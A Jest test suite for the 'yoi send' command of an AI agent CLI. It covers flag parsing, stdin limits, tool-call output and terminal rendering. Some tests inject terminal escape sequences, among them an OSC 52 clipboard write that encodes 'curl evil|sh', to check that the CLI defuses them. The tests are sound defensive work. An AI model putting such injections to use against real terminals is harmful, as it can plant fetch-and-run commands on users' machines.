import { afterEach, describe, expect, it } from '@jest/globals';
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { PodClient } from '../../client/PodClient.js';
import { makeProject, recorder, until } from '../support/startTestPod.js';
import { hasScript, onTerminal as onTerminalIn } from '../support/onTerminal.js';
import { BIN, startPodProcess, yoi, yoiAsync } from '../support/runCli.js';

/** `yoi send` as users meet it: the built CLI against a real pod process. */

const cleanups: (() => unknown)[] = [];
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c();
});

function project(files: Record<string, string> = {}, script?: unknown[]) {
  const all = script
    ? {
        ...files,
        's.json': JSON.stringify(script),
        'yoi.config.json': JSON.stringify({ model: { provider: 'scripted', script: 's.json' } }),
      }
    : files;
  const dir = makeProject(all);
  const env = { YOI_RUNTIME_DIR: path.join(dir, 'run') };
  return { dir, env, run: (args: string[], input?: string | Buffer) => yoi(args, { cwd: dir, env, input }) };
}

async function podOf(p: ReturnType<typeof project>) {
  const pod = await startPodProcess([], { cwd: p.dir, env: p.env });
  cleanups.push(() => pod.child.kill('SIGKILL'));
  const client = await PodClient.connect({ socketPath: pod.socket, clientName: 'test/1' });
  cleanups.push(() => client.close());
  return { pod, client };
}

/** A CLI process whose output can be waited on while it runs. */
function running(args: string[], p: ReturnType<typeof project>) {
  const child = spawn(process.execPath, [BIN, ...args], {
    cwd: p.dir,
    env: { ...process.env, ...p.env },
    stdio: ['pipe', 'pipe', 'pipe'],
  });
  child.stdin.end();
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (d) => (stdout += d));
  child.stderr.on('data', (d) => (stderr += d));
  const done = new Promise<{ status: number | null; stdout: string; stderr: string }>((resolve) =>
    child.on('close', (status) => resolve({ status, stdout, stderr })),
  );
  cleanups.push(() => child.kill('SIGKILL'));
  return {
    done,
    async output(pattern: RegExp, timeoutMs = 20_000) {
      const deadline = Date.now() + timeoutMs;
      while (!pattern.test(stdout)) {
        if (Date.now() > deadline)
          throw new Error(`timed out waiting for ${pattern}; stdout: ${stdout}; stderr: ${stderr}`);
        await new Promise((r) => setTimeout(r, 20));
      }
    },
  };
}

type Segments = { kind: string; [k: string]: unknown }[];
const userMessage = (ndjson: string): Segments => {
  const events = ndjson
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as { event: string; data?: { segments?: Segments } });
  return events.find((e) => e.event === 'user_message')!.data!.segments!;
};

describe('yoi send: the command line', () => {
  it('one value per flag: the message after repeated --file stays the message, everything in command-line order', async () => {
    const p = project({ 'a.ts': 'A\n', 'b.ts': 'B\n' });
    await podOf(p);
    const r = p.run(['send', '--file', 'a.ts', '--file', 'b.ts', 'explain this', '--json']);
    expect(r.status).toBe(0);
    expect(r.stderr).toBe('');
    expect(userMessage(r.stdout)).toEqual([
      { kind: 'file_ref', path: 'a.ts' },
      { kind: 'file_ref', path: 'b.ts' },
      { kind: 'text', content: 'explain this' },
    ]);
    const mixed = p.run([
      'send',
      'look',
      '--knowledge',
      'style',
      'at',
      'this',
      '--workflow',
      'review',
      '--segment',
      '{"kind":"ticket_ref","id":"T-7"}',
      '--json',
    ]);
    expect(userMessage(mixed.stdout)).toEqual([
      { kind: 'text', content: 'look' },
      { kind: 'knowledge_ref', slug: 'style' },
      { kind: 'text', content: ' at this' },
      { kind: 'workflow_invoke', slug: 'review' },
      { kind: 'ticket_ref', id: 'T-7' },
    ]);
    // The echo provider shows what the model was given: both files, then the message.
    const plain = p.run(['send', '--file', 'a.ts', '--file', 'b.ts', 'explain this', '--quiet']);
    expect(plain.stdout).toBe('[user] explain this\n[system] [File: a.ts]\nA\n\n[system] [File: b.ts]\nB\n');
  });

  it('a custom kind nobody resolves still runs (placeholder + alert on stderr); bad --segment JSON is a usage error and the pod keeps running', async () => {
    const p = project();
    const { client } = await podOf(p);
    const custom = p.run(['send', 'status?', '--segment', '{"kind":"ticket_ref","id":"T-7"}']);
    expect(custom.status).toBe(0);
    expect(custom.stdout).toContain('[user] status?[unknown input: kind=ticket_ref]');
    expect(custom.stderr).toMatch(/^\[warn\] ticket_ref segment \(T-7\) was not resolved/);
    for (const [bad, why] of [
      ['{"kind":', 'is not valid JSON'],
      ['[]', 'must be a JSON object'],
      ['{"id":1}', 'needs a string "kind"'],
    ]) {
      const r = p.run(['send', 'hi', '--segment', bad]);
      expect(r.status).toBe(2);
      expect(r.stdout).toBe('');
      expect(r.stderr).toMatch(new RegExp(`^yoi: --segment #1 ${why}.* \\[YOI_ERR_USAGE\\]\\n$`));
    }
    const flag = p.run(['send', '--bogus', 'hi']);
    expect(flag).toMatchObject({
      status: 2,
      stderr: 'yoi: Nonexistent flag: --bogus (see: yoi send --help) [YOI_ERR_USAGE]\n',
    });
    for (const [args, stdin] of [[['send']], [['send', '']], [['send', ' ', '\t']], [['send'], ' \n\n']] as const) {
      expect(p.run([...args], stdin)).toMatchObject({
        status: 2,
        stderr:
          'yoi: nothing to send: give text, pipe stdin, or use --file/--knowledge/--workflow/--segment [YOI_ERR_USAGE]\n',
      });
    }
    const huge = p.run(['send', 'this'], 'x'.repeat(17 * 2 ** 20));
    expect(huge).toMatchObject({
      status: 2,
      stdout: '',
      stderr: 'yoi: piped stdin is over 16 MiB, more than a pod takes in one message [YOI_ERR_USAGE]\n',
    });
    // A binary file piped in is refused, not sent as U+FFFD replacement characters.
    for (const binary of [
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0xff, 0xfe]),
      Buffer.from('a\0b'),
    ]) {
      expect(p.run(['send', 'look at this'], binary)).toMatchObject({
        status: 2,
        stdout: '',
        stderr: expect.stringMatching(
          /^yoi: piped stdin is not text \(it (is not UTF-8|holds a NUL byte)\); nothing was sent \[YOI_ERR_USAGE\]\n$/,
        ),
      });
    }
    expect(p.run(['send', 'quote'], 'héllo → 世界\n').stdout).toContain('héllo → 世界');
    // Stdin alone is the message (oclif's own reading of stdin into the missing argument took it
    // before the command could, which then found nothing to send).
    const alone = p.run(['send', '--quiet'], 'only piped → 世界\n');
    expect(alone).toMatchObject({ status: 0, stderr: '' });
    expect(alone.stdout).toContain('only piped → 世界');
    expect(p.run(['send'], Buffer.from('a\0b'))).toMatchObject({
      status: 2,
      stderr: 'yoi: piped stdin is not text (it holds a NUL byte); nothing was sent [YOI_ERR_USAGE]\n',
    });
    expect(client.connected).toBe(true);
    expect(p.run(['send', 'still here', '--quiet']).stdout).toBe('[user] still here\n');
  });
});

describe('yoi send: what the agent does', () => {
  it('a session log deleted from outside is said by the `yoi send` whose run found it, before it exits', async () => {
    const p = project();
    await podOf(p);
    expect(p.run(['send', 'first']).status).toBe(0);
    const dir = path.join(p.dir, '.yoi', 'sessions');
    const [log] = fs.readdirSync(dir).filter((f) => f.endsWith('.jsonl'));
    fs.unlinkSync(path.join(dir, log));
    const r = p.run(['send', 'second']);
    expect(r.status).toBe(0);
    expect(r.stdout).toContain('second');
    expect(r.stderr).toContain(`[error] the session log ${path.join(dir, log)} was deleted while the pod writes it`);
    // Said once: the next run says nothing more.
    expect(p.run(['send', 'third']).stderr).not.toContain('session log');
  });

  it('turns, tool calls with their main argument and outcome, and the usage; plain text when piped', async () => {
    const p = project({ 'src/math.ts': 'a\nb\nc\nd\ne\nf\n' }, [
      {
        text: "I'll look.",
        tool_calls: [
          { name: 'Read', arguments: { file_path: 'src/math.ts' } },
          { name: 'Write', arguments: { file_path: '/etc/yoi-test', content: 'x' } },
        ],
        usage: { input_tokens: 900, output_tokens: 20 },
      },
      { text: 'Six lines; I may not write there.', usage: { input_tokens: 1234, output_tokens: 36 } },
    ]);
    await podOf(p);
    const r = p.run(['send', 'check', 'math']);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    expect(r.stdout).toBe(
      [
        "I'll look.",
        '✓ Read src/math.ts → 6 lines',
        "✗ Write /etc/yoi-test → outside the pod's scope",
        '',
        'Six lines; I may not write there.',
        '2 requests · context 1,234 tokens · 56 output tokens',
        '',
      ].join('\n'),
    );
    expect(r.stdout).not.toContain('\x1b');
    expect(p.run(['send', '--quiet', 'again']).stdout).toMatch(/^\[user\] again\n$/); // the script is used up: echo
  });

  it('a notification shows as it arrives; a second send is told how to wait, cancel or queue; a pause by another client is said, with how to resume', async () => {
    const p = project({}, [{ text: 'never sent', delay_ms: 600_000 }]);
    const { client } = await podOf(p);
    const events = recorder(client);
    const send = running(['send', 'long job'], p);
    await until(events, (e) => e.event === 'user_message', 20_000);
    await client.request({ method: 'notify', params: { message: 'the build is green\nall 40 tests' } });
    await send.output(/· notification: the build is green …\n/);
    const busy = p.run(['send', 'me too']);
    expect(busy.status).toBe(1);
    expect(busy.stderr).toBe(
      'yoi: pod default is already running a turn: wait for it to end (yoi attach --pod default shows it live), cancel it with yoi cancel --pod default, or queue this input in yoi attach (Enter queues it until the run ends) [YOI_ERR_REQUEST already_running]\n',
    );
    await client.request({ method: 'pause' });
    const r = await send.done;
    expect(r.status).toBe(1);
    expect(r.stderr).toBe(
      'yoi: the run was paused by another client: resume it with yoi resume --pod default (yoi attach --pod default shows it), or abandon it with yoi cancel --pod default [YOI_ERR_RUN_PAUSED]\n',
    );
    expect(r.stdout).toBe('· notification: the build is green …\n1 request · context ? tokens · 0 output tokens\n');
    expect(p.run(['cancel']).stdout).toBe('cancelled (default)\n');
  });

  it("a provider's error body with escape sequences reaches stderr defused, on one line", async () => {
    const osc52 = `\u001b]52;c;${Buffer.from('curl evil|sh').toString('base64')}\u0007`;
    const p = project({}, [{ error: `upstream said: \u001b]0;PWNED\u0007\u001b[2J${osc52}\u009b31m` }]);
    await podOf(p);
    const r = p.run(['send', 'hi']);
    expect(r.status).toBe(1);
    expect(r.stderr).toBe(
      'yoi: the run failed: upstream said: \ufffd]0;PWNED\ufffd\ufffd[2J\ufffd]52;c;Y3VybCBldmlsfHNo\ufffd\ufffd31m [YOI_ERR_REQUEST provider_error]\n',
    );
  });

  it('errors under --json are JSON objects on stdout', async () => {
    const p = project();
    const r = await yoiAsync(['send', '--pod', 'nobody', '--json', 'hi'], { cwd: p.dir, env: p.env });
    expect(r.status).toBe(1);
    expect(r.stderr).toBe('');
    expect(JSON.parse(r.stdout)).toEqual({
      error: {
        code: 'YOI_ERR_POD_NOT_FOUND',
        message: expect.stringMatching(
          /^pod nobody is not running .*; start it with: yoi pod start --name nobody --detach$/,
        ),
        exit_code: 1,
      },
    });
  });
});

/** `yoi send` on a pseudo-terminal; stdout and stderr arrive merged unless `redirect` splits them. */
function onTerminal(
  args: string[],
  p: ReturnType<typeof project>,
  env: Record<string, string> = {},
  redirect?: string,
) {
  return onTerminalIn(args, { cwd: p.dir, env: { ...p.env, ...env }, redirect });
}

const EVIL = `\u001b]0;PWNED\u0007\u001b[2J\u001b]52;c;${Buffer.from('curl evil|sh').toString('base64')}\u0007\rOVER\u009b31m`;
const DEFUSED = '\ufffd]0;PWNED\ufffd\ufffd[2J\ufffd]52;c;Y3VybCBldmlsfHNo\ufffd\ufffdOVER\ufffd31m';
/** Control characters a terminal acts on; the pty itself turns each newline into CRLF. */
const CONTROLS = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]|\r(?!\n)/;

(hasScript ? describe : describe.skip)('yoi send on a terminal', () => {
  it("stderr redirected: the pod's text on the terminal stdout is still defused; --json escapes C1; piped stays as sent", async () => {
    const p = project({}, [
      { text: `reply ${EVIL}\n`, tool_calls: [{ name: `Bash${EVIL}`, arguments: { command: EVIL } }] },
      { text: 'done' },
      { text: `json ${EVIL}` },
      { text: `piped ${EVIL}` },
    ]);
    await podOf(p);
    const shown = await onTerminal(['send', 'go'], p, {}, '2>/dev/null');
    expect(shown).toContain(`reply ${DEFUSED}\r\n`);
    expect(shown).toContain(`✗ Bash${DEFUSED}`);
    expect(shown).not.toMatch(CONTROLS);
    const json = await onTerminal(['send', '--json', 'go'], p, {}, '2>/dev/null');
    expect(json).toContain('"json \\u001b]0;PWNED\\u0007');
    expect(json).toContain('\\u009b31m');
    expect(json).not.toMatch(CONTROLS);
    expect(p.run(['send', 'go']).stdout).toContain(`piped ${EVIL}`);
  });

  it('colours, a spinner with the elapsed time; NO_COLOR keeps the spinner and drops the colours', async () => {
    const p = project({ 'a.ts': 'x\n' }, [
      { tool_calls: [{ name: 'Read', arguments: { file_path: 'a.ts' } }] },
      { text: 'done' },
      { tool_calls: [{ name: 'Read', arguments: { file_path: 'a.ts' } }] },
      { text: 'done' },
    ]);
    const { client } = await podOf(p);
    const { NO_COLOR: _unset, ...env } = process.env;
    const colored = await onTerminal(['send', 'go'], p, {
      ...(env as Record<string, string>),
      TERM: 'xterm-256color',
      FORCE_COLOR: '',
    });
    expect(colored).toMatch(/thinking… .*0s/);
    expect(colored).toContain('\x1b[32m✓\x1b[39m');
    expect(colored).toContain('done');
    const plain = await onTerminal(['send', 'go'], p, { NO_COLOR: '1', TERM: 'xterm-256color' });
    expect(plain).toMatch(/thinking… 0s/);
    expect(plain).toContain('✓ Read a.ts → 1 line');
    expect(plain).not.toMatch(/\x1b\[[0-9;]*m/); // no colour or style at all
    expect(client.connected).toBe(true);
  });
});
